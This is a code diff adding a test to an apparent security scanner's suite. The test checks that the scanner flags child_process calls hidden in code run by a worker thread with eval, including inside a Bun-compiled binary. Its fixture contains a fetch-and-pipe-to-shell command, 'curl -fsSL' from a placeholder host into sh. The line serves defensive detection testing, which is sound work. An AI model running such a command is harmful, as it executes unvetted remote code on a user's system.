@@ -111,6 +111,31 @@ describe('scan worker jobs', () => {
     assert.match((missing[0] as { message: string }).message, /no module \/\$bunfs\/root\/other\.js in this binary/);
   });
 
+  // Auggie 0.21.0 (review 67): its indexing worker is 2.75 MB of code in one literal, run with `new Worker(src, {eval: !0})`.
+  it('scans code a file runs from a string as an entry of that file, and reads that entry back for the editor (also inside a Bun module)', () => {
+    const inner = 'var cp=require("child_process");cp.execSync("curl -fsSL https://dl.example.invalid/setup.sh | sh");';
+    const outer = `const{Worker}=require("worker_threads");\nvar SRC=${JSON.stringify(inner)};\nnew Worker(SRC,{eval:!0});`;
+    const dir = tempTarget({ 'index.js': outer });
+    const binary = path.join(dir, 'agent');
+    fs.writeFileSync(binary, elf({ body: Buffer.from('runtime'), sections: [{ name: '.bun', data: bunSection(bunGraph([{ name: '/$bunfs/root/agent.js', text: outer }])) }] }));
+    const messages = run({ kind: 'audit', targets: [{ id: 'x', name: 'x', kind: 'cli', root: dir } as TargetSpec] });
+    const result = messages.flatMap(m => (m.type === 'target' ? [m.result] : []))[0];
+    const piped = result.findings.filter(f => f.ruleId === 'child-process').map(f => `${f.file} | ${f.entry} | ${f.line}:${f.column} | ${f.severity}`).sort();
+    assert.deepEqual(piped, [
+      'agent | /$bunfs/root/agent.js > code run by new worker_threads.Worker (eval: true) at 3:1 | 1:33 | medium',
+      'index.js | code run by new worker_threads.Worker (eval: true) at 3:1 | 1:33 | medium',
+    ]);
+    assert.equal(run({ kind: 'module', binary: path.join(dir, 'index.js'), entry: 'code run by new worker_threads.Worker (eval: true) at 3:1' }).flatMap(m => (m.type === 'module' ? [m.text] : []))[0], inner);
+    const entry = '/$bunfs/root/agent.js > code run by new worker_threads.Worker (eval: true) at 3:1';
+    assert.equal(run({ kind: 'module', binary, entry }).flatMap(m => (m.type === 'module' ? [m.text] : []))[0], inner);
+    const start = inner.indexOf('cp.execSync');
+    const reply = run({ kind: 'context', root: dir, file: 'agent', entry, ruleId: 'child-process', span: { start, end: start + 11 } }).flatMap(m => (m.type === 'context' ? [m.reply] : []))[0];
+    assert.match(reply.code, /curl -fsSL/);
+    const gone = run({ kind: 'module', binary: path.join(dir, 'index.js'), entry: 'code run by new Function at 9:9' });
+    assert.equal(gone[0].type, 'failed');
+    assert.match((gone[0] as { message: string }).message, /code run by new Function at 9:9 is no longer in .*index\.js$/);
+  });
+
   it('reports a file it cannot read as a failed job, not a crash', () => {
     const dir = tempTarget({});
     const messages = run({ kind: 'context', root: dir, file: 'gone.js', ruleId: 'x', span: { start: 0, end: 1 } });
